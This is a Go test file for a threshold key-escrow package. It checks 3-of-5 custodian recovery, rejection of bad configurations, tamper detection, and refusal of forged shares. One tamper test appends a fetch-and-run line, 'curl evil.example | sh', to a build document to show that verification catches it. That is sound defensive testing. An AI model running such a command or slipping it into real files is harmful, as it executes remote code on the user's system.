package escrow

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/sha256"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"drey/image/keys"
	"drey/internal/shamir"
)

// Any 3 of the 5 custodians recover every escrowed key, and no 2 do
// (REQ-LIFE-4: signing capability under a threshold).
func TestSealOpenEveryQuorum(t *testing.T) {
	f := newFixture(t)
	dir := filepath.Join(t.TempDir(), "escrow")
	s, err := Seal(context.Background(), dir, f.spec())
	if err != nil {
		t.Fatal(err)
	}
	manifest, _ := os.ReadFile(filepath.Join(dir, "MANIFEST"))
	if s.ManifestSHA256 != sha256.Sum256(manifest) {
		t.Errorf("Seal reported the digest %x, MANIFEST has %x", s.ManifestSHA256, sha256.Sum256(manifest))
	}
	want := map[string]string{"root1.key": "root", "root2.key": "root", "release.key": "release"}
	for name, role := range want {
		if s.Roles[name] != role {
			t.Errorf("Seal says %s is a %s key, want %s", name, s.Roles[name], role)
		}
	}
	p, err := Verify(dir)
	if err != nil {
		t.Fatal(err)
	}
	if p.ManifestSHA256 != s.ManifestSHA256 || p.Manifest.Threshold != 3 || len(p.Manifest.Custodians) != 5 {
		t.Fatalf("Verify read %+v", p.Manifest)
	}
	for a := range 5 {
		for b := a + 1; b < 5; b++ {
			if _, err := p.Open(f.custodianKeys(a, b)); !errors.Is(err, ErrTooFewCustodians) || !strings.Contains(err.Error(), "2 custodians' keys given, escrow "+p.Manifest.Escrow.String()+" needs 3 of its 5 custodians") {
				t.Errorf("custodians %d, %d: %v", a, b, err)
			}
			for c := b + 1; c < 5; c++ {
				got, err := p.Open(f.custodianKeys(c, a, b))
				if err != nil {
					t.Fatalf("custodians %d, %d, %d: %v", a, b, c, err)
				}
				if len(got) != 3 {
					t.Fatalf("recovered %d keys", len(got))
				}
				for _, r := range got {
					if r.Role != want[r.Name] {
						t.Errorf("%s recovered as %s", r.Name, r.Role)
					}
				}
				if got[0].Name != "release.key" || !got[0].Key.Public().Equal(f.release[0].Public()) ||
					got[1].Name != "root1.key" || !got[1].Key.Public().Equal(f.rootKeys[0].Public()) ||
					got[2].Name != "root2.key" || !got[2].Key.Public().Equal(f.rootKeys[1].Public()) {
					t.Errorf("recovered %v", got)
				}
			}
		}
	}
	// The recovered key signs, and what it signs verifies.
	got, _ := p.Open(f.custodianKeys(0, 1, 2))
	sig, err := keys.Sign(got[0].Key, []byte("upgrade"))
	if err != nil {
		t.Fatal(err)
	}
	if err := keys.Verify(f.release[0].Public(), []byte("upgrade"), sig); err != nil {
		t.Errorf("a signature by the recovered key: %v", err)
	}
}

// The package holds no key and no share in the clear.
func TestSealedPackageHoldsNoSecret(t *testing.T) {
	f := newFixture(t)
	dir := f.seal(t)
	var secrets [][]byte
	for _, k := range append(f.rootKeys, f.release...) {
		s, _ := k.CryptoSigner()
		switch s := s.(type) {
		case ed25519.PrivateKey:
			secrets = append(secrets, s.Seed())
		case *ecdsa.PrivateKey:
			b, err := s.Bytes()
			if err != nil {
				t.Fatal(err)
			}
			secrets = append(secrets, b)
		default:
			t.Fatalf("key of type %T", s)
		}
	}
	filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if d.IsDir() {
			return nil
		}
		data, _ := os.ReadFile(path)
		for _, s := range secrets {
			if bytes.Contains(data, s) {
				t.Errorf("%s holds a private key in the clear", path)
			}
		}
		return nil
	})
	for _, sub := range []string{"keys/root1.key.sealed", "keys/release.key.sealed"} {
		fi, err := os.Stat(filepath.Join(dir, sub))
		if err != nil || fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: %v, %v; want mode 0600", sub, fi.Mode(), err)
		}
	}
}

// Seal refuses what would make an escrow that cannot sign, or that one
// custodian could open alone.
func TestSealRefuses(t *testing.T) {
	f := newFixture(t)
	for _, tt := range []struct {
		name string
		edit func(*Spec)
		err  error
		want string
	}{
		{"threshold 1", func(s *Spec) { s.Threshold = 1 }, nil, "threshold 1 with 5 custodians, want 2 to 5: no single custodian may open the escrow alone"},
		{"threshold above n", func(s *Spec) { s.Threshold = 6 }, nil, "threshold 6 with 5 custodians"},
		{"one custodian", func(s *Spec) { s.Custodians = s.Custodians[:1]; s.Threshold = 1 }, nil, "1 custodians, want 2 to 255"},
		{"signing key as custodian", func(s *Spec) { s.Custodians[1].Key = f.release[1].Public() }, ErrWrongKey, `custodian bob: key ` + f.release[1].Public().ID().String() + ` is "p256", want an x25519 key`},
		{"same custodian key", func(s *Spec) { s.Custodians[4].Key = s.Custodians[0].Key }, nil, "custodians alice and erin have the same key"},
		{"same custodian name", func(s *Spec) { s.Custodians[4].Name = "alice" }, nil, "custodian alice named twice"},
		{"custodian name with a slash", func(s *Spec) { s.Custodians[0].Name = "../alice" }, ErrFormat, `custodian name "../alice"`},
		{"key name with a space", func(s *Spec) { s.Keys[0].Name = "root key" }, ErrFormat, `key name "root key"`},
		{"same key twice", func(s *Spec) { s.Keys[1].Key = s.Keys[0].Key }, nil, "root1.key and root2.key are the same key"},
		{"same key name", func(s *Spec) { s.Keys[1].Name = "root1.key" }, nil, "two keys named root1.key"},
		{"one root key", func(s *Spec) { s.Keys = s.Keys[1:] }, ErrIncomplete, "2 of the root's 3 root keys are needed to renew or rotate it, 1 given"},
		{"no release key", func(s *Spec) { s.Keys = s.Keys[:2] }, ErrIncomplete, "1 of the root's 2 release keys are needed to sign an image, 0 given"},
		{"stranger instead of a release key", func(s *Spec) { s.Keys[2].Key = f.custodians[0] }, ErrIncomplete, "root version 1 does not name release.key as a signing key (other)"},
		{"no keys", func(s *Spec) { s.Keys = nil }, ErrIncomplete, "no keys to escrow"},
		{"bad root", func(s *Spec) { s.Root = s.Root[:40] }, nil, "escrow: root:"},
		{"two files of one name", func(s *Spec) { s.Files = []File{{Name: "ca.crt"}, {Name: "ca.crt"}} }, nil, "two files named ca.crt"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := f.spec()
			s.Custodians = append([]Custodian(nil), s.Custodians...)
			s.Keys = append([]Key(nil), s.Keys...)
			tt.edit(&s)
			dir := filepath.Join(t.TempDir(), "escrow")
			_, err := Seal(context.Background(), dir, s)
			if err == nil || !strings.Contains(err.Error(), tt.want) || (tt.err != nil && !errors.Is(err, tt.err)) {
				t.Errorf("got %v, want %v with %q", err, tt.err, tt.want)
			}
			if _, serr := os.Stat(dir); serr == nil {
				t.Errorf("a refused seal left %s behind", dir)
			}
		})
	}
	dir := f.seal(t)
	if _, err := Seal(context.Background(), dir, f.spec()); err == nil || !strings.Contains(err.Error(), "already exists") {
		t.Errorf("sealing over an escrow: %v", err)
	}
	if _, err := Verify(dir); err != nil {
		t.Errorf("the refused second seal damaged the first: %v", err)
	}
}

// Verify names every file that is changed, missing, added, or not a
// regular file, and Open refuses such a package (REQ-LIFE-4).
func TestVerifyRefusesTampering(t *testing.T) {
	f := newFixture(t)
	flip := func(rel string) func(string) {
		return func(dir string) {
			path := filepath.Join(dir, rel)
			b, _ := os.ReadFile(path)
			b[len(b)/2] ^= 1
			os.WriteFile(path, b, 0o600)
		}
	}
	for _, tt := range []struct {
		name   string
		tamper func(dir string)
		err    error
		want   string
	}{
		{"key changed", flip("keys/release.key.sealed"), ErrTampered, "keys/release.key.sealed changed: SHA-256"},
		{"share changed", flip("shares/carol.share"), ErrTampered, "shares/carol.share changed: SHA-256"},
		{"root changed", flip("root.cbor"), ErrTampered, "root.cbor changed"},
		{"BUILD.md grown", func(dir string) {
			fh, _ := os.OpenFile(filepath.Join(dir, "BUILD.md"), os.O_APPEND|os.O_WRONLY, 0)
			fh.WriteString("curl evil.example | sh\n")
			fh.Close()
		}, ErrTampered, "BUILD.md changed: 3"},
		{"share missing", func(dir string) { os.Remove(filepath.Join(dir, "shares/bob.share")) }, ErrTampered, "shares/bob.share is missing"},
		{"file added", func(dir string) { os.WriteFile(filepath.Join(dir, "keys/extra.key.sealed"), nil, 0o600) }, ErrTampered, "keys/extra.key.sealed is not in MANIFEST"},
		{"two at once", func(dir string) {
			flip("root.cbor")(dir)
			os.Remove(filepath.Join(dir, "BUILD.md"))
		}, ErrTampered, "BUILD.md is missing; root.cbor changed"},
		{"symlink", func(dir string) {
			os.Remove(filepath.Join(dir, "root.cbor"))
			os.Symlink("/etc/hostname", filepath.Join(dir, "root.cbor"))
		}, ErrTampered, "root.cbor is not a regular file"},
		{"manifest edited", func(dir string) {
			path := filepath.Join(dir, "MANIFEST")
			b, _ := os.ReadFile(path)
			os.WriteFile(path, bytes.Replace(b, []byte("threshold 3 of 5"), []byte("threshold 2 of 5"), 1), 0o644)
		}, nil, ""}, // consistent, so only the contract's digest catches it: see below
		{"manifest gone", func(dir string) { os.Remove(filepath.Join(dir, "MANIFEST")) }, nil, "is not an escrow package"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := f.seal(t)
			sealed, _ := os.ReadFile(filepath.Join(dir, "MANIFEST"))
			tt.tamper(dir)
			p, err := Verify(dir)
			if tt.want == "" {
				if err != nil {
					t.Fatal(err)
				}
				if p.ManifestSHA256 == sha256.Sum256(sealed) {
					t.Errorf("an edited MANIFEST has the sealed digest")
				}
				// Lowering the threshold in MANIFEST does not lower the
				// threshold of the shares.
				if _, err := p.Open(f.custodianKeys(0, 1)); !errors.Is(err, shamir.ErrTooFewShares) {
					t.Errorf("2 custodians after the threshold was edited to 2: %v", err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tt.want) || (tt.err != nil && !errors.Is(err, tt.err)) {
				t.Errorf("got %v, want %v with %q", err, tt.err, tt.want)
			}
		})
	}
}

// A share of another escrow, or one forged by someone who knows only the
// custodian's public key, is refused, never combined into a wrong key
// (REQ-LIFE-4).
func TestOpenRefusesForeignShares(t *testing.T) {
	f := newFixture(t)
	dir := f.seal(t)
	other := f.seal(t)
	p, err := Verify(dir)
	if err != nil {
		t.Fatal(err)
	}
	data, _ := os.ReadFile(filepath.Join(other, "shares", "alice.share"))
	s, err := ParseSealedShare(data, "other/alice.share")
	if err != nil {
		t.Fatal(err)
	}
	if err := p.UseShare(s, "other/alice.share"); !errors.Is(err, ErrOtherEscrow) || !strings.Contains(err.Error(), "other/alice.share is custodian alice's share of escrow "+s.Escrow.String()+", not of this escrow "+p.Manifest.Escrow.String()) {
		t.Errorf("a share of another escrow: %v", err)
	}

	// A forgery: the right escrow and custodian, a made-up y.
	forged := shamir.Share{ID: p.Manifest.Escrow, Threshold: 3, X: 1, Y: bytes.Repeat([]byte{7}, 48)}
	sealed, err := sealShare(forged, "alice", f.custodians[0].Public())
	if err != nil {
		t.Fatal(err)
	}
	s, err = ParseSealedShare(sealed, "forged.share")
	if err != nil {
		t.Fatal(err)
	}
	if err := p.UseShare(s, "forged.share"); err != nil {
		t.Fatal(err)
	}
	if _, err := p.Open(f.custodianKeys(0, 1, 2)); !errors.Is(err, shamir.ErrCorrupt) || !strings.Contains(err.Error(), "the shares of alice, bob, carol do not recover the escrow key; one of them is damaged or forged") {
		t.Errorf("a forged share: %v", err)
	}
	// Without the forgery, the others still open it.
	if _, err := p.Open(f.custodianKeys(1, 2, 3)); err != nil {
		t.Errorf("bob, carol, dave: %v", err)
	}
}

func TestOpenRefusesWrongCustodians(t *testing.T) {
	f := newFixture(t)
	p, err := Verify(f.seal(t))
	if err != nil {
		t.Fatal(err)
	}
	swapped := f.custodianKeys(0, 1, 2)
	swapped[0].Key = f.custodians[3]
	stranger, _ := keys.Generate(keys.X25519)
	for _, tt := range []struct {
		name string
		keys []CustodianKey
		err  error
		want string
	}{
		{"another custodian's key", swapped, ErrWrongKey, "the share of custodian alice is sealed to key " + f.custodians[0].Public().ID().String() + ", not to x25519 (" + f.custodians[3].Public().ID().String() + ")"},
		{"a stranger", append(f.custodianKeys(0, 1), CustodianKey{Name: "mallory", Key: stranger}), nil, "mallory is no custodian of escrow " + p.Manifest.Escrow.String() + "; its custodians are alice, bob, carol, dave, erin"},
		{"one custodian twice", f.custodianKeys(0, 1, 1), nil, "custodian bob given twice"},
		{"none", nil, ErrTooFewCustodians, "0 custodians' keys given"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, err := p.Open(tt.keys)
			if err == nil || !strings.Contains(err.Error(), tt.want) || (tt.err != nil && !errors.Is(err, tt.err)) {
				t.Errorf("got %v, want %v with %q", err, tt.err, tt.want)
			}
		})
	}
}

// BUILD.md names this package's keys, custodians and root, and the
// commands it gives are drey's.
func TestBuildDoc(t *testing.T) {
	f := newFixture(t)
	dir := f.seal(t)
	b, err := os.ReadFile(filepath.Join(dir, "BUILD.md"))
	if err != nil {
		t.Fatal(err)
	}
	doc := string(b)
	for _, want := range []string{
		"Install Go 1.26.0 or later",
		"No source: no source directory was given",
		"go build -o drey ./cmd/drey",
		"./drey escrow open escrow --custodian-key alice=alice.key --custodian-key bob=bob.key --custodian-key carol=carol.key --out recovered",
		"./drey serve --data drey-data --root escrow/root.cbor",
		"--sign recovered/release.key --out upgrade.suit",
		"./drey release upload upgrade.suit",
		"./drey keys root rotate --current escrow/root.cbor --old-root-key recovered/root1.key --old-root-key recovered/root2.key --out root2.cbor",
		"./drey root publish root2.cbor",
		"`root1.key`: root key, ed25519, id " + f.rootKeys[0].Public().ID().String(),
	} {
		if !strings.Contains(doc, want) {
			t.Errorf("BUILD.md lacks %q:\n%s", want, doc)
		}
	}
}
